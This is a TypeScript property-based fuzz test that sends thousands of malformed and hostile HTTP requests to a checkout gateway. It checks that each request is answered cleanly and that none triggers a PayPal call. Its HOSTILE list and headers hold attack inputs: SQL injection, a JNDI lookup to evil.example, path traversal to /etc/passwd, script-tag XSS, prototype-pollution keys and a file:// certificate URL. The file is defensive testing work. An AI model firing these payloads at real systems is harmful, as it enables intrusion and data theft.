import * as fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { rawRequest } from '../support/raw-request.ts';
import { useShop } from '../support/shop.ts';
import { readContract } from './contract.ts';
import { openTestGateway, payPalCalls, startOverHttp, type TestGateway } from './test-gateway.ts';

const REQUESTS = 5_000;
const AT_ONCE = 16;
/** No route waits longer for what cannot be; a look at Temporal is given up after 20 s. */
const ANSWERED_WITHIN_MS = 30_000;

const seed = Number(process.env['HOLDFAST_SEED'] ?? Date.now() % 2_147_483_647);
const shop = useShop();
let gateway: TestGateway;
let known: string;

beforeAll(async () => {
  gateway = await openTestGateway(shop, { variables: { HOLDFAST_STREAM_LIFE: '1' } });
  known = (await startOverHttp(gateway)).checkoutId;
});
afterAll(() => gateway.close());

type Sent = {
  readonly method: string;
  readonly route: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | null;
};

type Answered = {
  readonly status: number;
  readonly code: string | null;
  readonly ms: number;
};

const HOSTILE = [
  "'; DROP TABLE orders; --",
  '${jndi:ldap://evil.example/a}',
  '../../../etc/passwd',
  '..',
  '<script>alert(1)</script>',
  '\u0000',
  '\u202e\u2066',
  '__proto__',
  'constructor',
  'A'.repeat(2_000),
  '%',
  'checkout:default:x',
];

const hostile = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary', maxLength: 40 }).map((made) => made.replace(/\p{Cs}/gu, '\ufffd')),
);

const inPath = (value: string): string => encodeURIComponent(value).replaceAll('.', '%2E') || '%20';

/** Ids of no checkout, and values that are no ids. */
const id = fc.oneof(
  fc.stringMatching(/^nobody-[a-z0-9]{1,20}$/),
  hostile.map(inPath),
  fc.constantFrom('%', '%zz', '%00', '%2e%2e', 'a%2fb', '~', '-'),
);

/** Routes that only look, where a checkout that exists makes no call at PayPal. */
const LOOKS = /^GET \/v1\/checkouts\/\{checkoutId\}(\/events)?$/;

const queryOf = (names: readonly string[]) =>
  fc
    .dictionary(
      fc.oneof(fc.constantFrom('x', ...names.filter((name) => name !== 'timeout')), hostile),
      fc.oneof(hostile, fc.constantFrom('', '1', 'VOIDED', '2026-01-01T00:00:00Z', '-1', '1e9')),
      { maxKeys: 3 },
    )
    .chain((members) => fc.constantFrom({}, members))
    .map((members: Readonly<Record<string, string>>) => {
      const parts = Object.entries(members).map(
        ([name, value]) => `${encodeURIComponent(name)}=${encodeURIComponent(value)}`,
      );
      // Who waits, waits a second.
      const wait = members['wait'] === undefined ? [] : ['timeout=1'];
      return [...parts, ...wait].join('&');
    });

type Headers = Readonly<Record<string, string>>;

/** Any of these headers, and none of them as often as not. */
const someOf = (values: Readonly<Record<string, readonly string[]>>): fc.Arbitrary<Headers> => {
  const drawn = Object.entries(values).map(([name, each]) =>
    fc.option(fc.constantFrom(...each)).map((value) => (value === null ? [] : [[name, value]])),
  );
  const all = fc.tuple(...drawn).map((pairs) => Object.fromEntries(pairs.flat()));
  return fc.oneof(fc.constant({}), all);
};

const headers = fc
  .tuple(
    someOf({
      'Content-Type': ['application/json', 'text/plain', '', 'a/b; charset=x'],
      'Content-Encoding': ['gzip', 'identity'],
      'Idempotency-Key': ['k', '', 'a b', 'k'.repeat(256)],
      'If-None-Match': ['*', '"x"', 'W/"1-2", "3"', ','],
      'Last-Event-ID': ['"1-2"', '', 'x'.repeat(5_000)],
      'X-Request-Id': ['x', '../x', 'y'.repeat(300)],
      Authorization: ['Bearer x', 'Basic x', 'Bearer', ''],
      'PayPal-Cert-Url': ['https://api.paypal.com/x', 'file:///etc/passwd', ''],
      Accept: ['text/event-stream', '*/*', 'x'],
    }),
    // What is refused before a route is looked at.
    someOf({
      Origin: ['https://evil.example', 'null', 'x'],
      'Sec-Fetch-Site': ['cross-site', 'same-origin', 'x'],
      Host: ['localhost', 'evil.example', '127.0.0.1:1', '[::1]', 'a b'],
      'X-Forwarded-For': ['203.0.113.9'],
    }),
  )
  .map(([one, other]): Headers => ({ ...one, ...other }));

/** Each has a member that nobody knows, so that none is a command that could be carried out. */
const body = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify({ unknown: value })),
  fc.tuple(hostile, hostile).map(([one, other]) =>
    JSON.stringify({
      unknown: 1,
      checkoutId: one,
      captureId: other,
      reason: one,
      seconds: 1,
      amount: { currencyCode: 'USD', value: other },
      purchaseUnit: { amount: { currencyCode: one, value: '1.00' }, [other]: one },
    }),
  ),
  fc.string({ unit: 'binary', maxLength: 200 }).map((made) => `{${made}`),
  fc.constant('['.repeat(5_000)),
  fc.constant(JSON.stringify({ unknown: 'x'.repeat(20_000) })),
);

const METHODS = ['GET', 'POST', 'PATCH', 'PUT', 'DELETE', 'OPTIONS', 'HEAD', 'TRACE'] as const;

type Operation = {
  readonly method: string;
  readonly path: string;
  readonly parameters: readonly { readonly name: string; readonly in: string }[];
};

const requestTo = ({ method, path, parameters }: Operation): fc.Arbitrary<Sent> => {
  const route = `${method} ${path}`;
  const names = parameters.flatMap((one) => (one.in === 'query' ? [one.name] : []));
  const ids = LOOKS.test(route) ? fc.oneof(id, fc.constant(known)) : id;
  const other = fc.constantFrom(...METHODS);
  // Mostly the method that the route has: the others find no route.
  const drawnMethod = fc.oneof({ arbitrary: fc.constant(method), weight: 9 }, other);
  return fc.record({ ids, drawnMethod, query: queryOf(names), headers, body }).map((drawn) => {
    const query = drawn.query === '' ? '' : `?${drawn.query}`;
    const takesBody = !['GET', 'HEAD', 'TRACE'].includes(drawn.drawnMethod);
    // A command on a checkout that exists would be one.
    const named = drawn.drawnMethod === method ? drawn.ids : 'nobody';
    const at = path.replace('{checkoutId}', named).replace('{trackerId}', named);
    return {
      method: drawn.drawnMethod,
      route,
      path: `${at}${query}`,
      headers: drawn.headers,
      body: takesBody ? drawn.body : null,
    };
  });
};

const code = z.object({ code: z.string() });

const send = async ({ method, path, headers: given, body: raw }: Sent): Promise<Answered> => {
  const begunAt = performance.now();
  const sent = { method, path, headers: given, body: raw, withinMs: ANSWERED_WITHIN_MS };
  const { status, headers: answered, body: read } = await rawRequest(gateway.url, sent);
  const isProblem = answered['content-type'] === 'application/problem+json' && read !== '';
  const ms = performance.now() - begunAt;
  return { status, code: isProblem ? code.parse(JSON.parse(read)).code : null, ms };
};

/** 503 is meant where a part is not there: this gateway has no webhook id and its worker is not in its namespace's default. */
const MEANT = new Set(['WEBHOOK_ID_MISSING', 'NOT_READY']);

describe(`${REQUESTS} hostile requests over every route`, () => {
  it('are each answered in time and clearly, with no 5xx that is not meant, and reach PayPal never', async () => {
    console.info(`seed ${seed}: run again with HOLDFAST_SEED=${seed}`);
    const { operations } = await readContract(gateway);
    const everything: Operation[] = [
      ...operations,
      ...['/docs', '/docs/start.js', '/errors', '/openapi.json', '/nowhere', '/v1', '/'].map(
        (path) => ({ method: 'GET', path, parameters: [] }),
      ),
    ];
    const before = await payPalCalls(shop);
    const requests = everything.flatMap((operation, index) =>
      fc.sample(requestTo(operation), {
        seed: seed + index,
        numRuns: Math.ceil(REQUESTS / everything.length),
      }),
    );
    const seen = new Map<string, Set<number>>();
    const wrong: string[] = [];
    const line = [...requests];
    await Promise.all(
      Array.from({ length: AT_ONCE }, async () => {
        for (let sent = line.pop(); sent !== undefined; sent = line.pop()) {
          const shown = `${sent.method} ${sent.path} ${JSON.stringify(sent.headers)}`;
          const answer = await send(sent).catch((error: unknown) => String(error));
          if (typeof answer === 'string') {
            wrong.push(`${shown}: ${answer}`);
            continue;
          }
          seen.set(sent.route, (seen.get(sent.route) ?? new Set()).add(answer.status));
          if (answer.status >= 500 && !MEANT.has(answer.code ?? '')) {
            wrong.push(`${shown}: ${answer.status} ${answer.code}`);
          }
        }
      }),
    );
    expect(wrong, `seed ${seed}`).toEqual([]);
    expect(requests.length).toBeGreaterThanOrEqual(REQUESTS);
    expect([...seen.keys()].sort()).toEqual(
      everything.map(({ method, path }) => `${method} ${path}`).sort(),
    );
    // It was let through: routes that only look answered, commands found no checkout.
    expect(seen.get('GET /v1/checkouts/{checkoutId}')).toContain(200);
    expect(seen.get('POST /v1/checkouts/{checkoutId}/approve')).toContain(404);
    expect(await payPalCalls(shop), `seed ${seed}: something reached PayPal`).toBe(before);
    expect((await gateway.ask('GET', '/healthz')).status).toBe(200);
    expect((await gateway.ask('GET', `/v1/checkouts/${known}`)).body['status']).toBe(
      'AWAITING_APPROVAL',
    );
  }, 300_000);
});
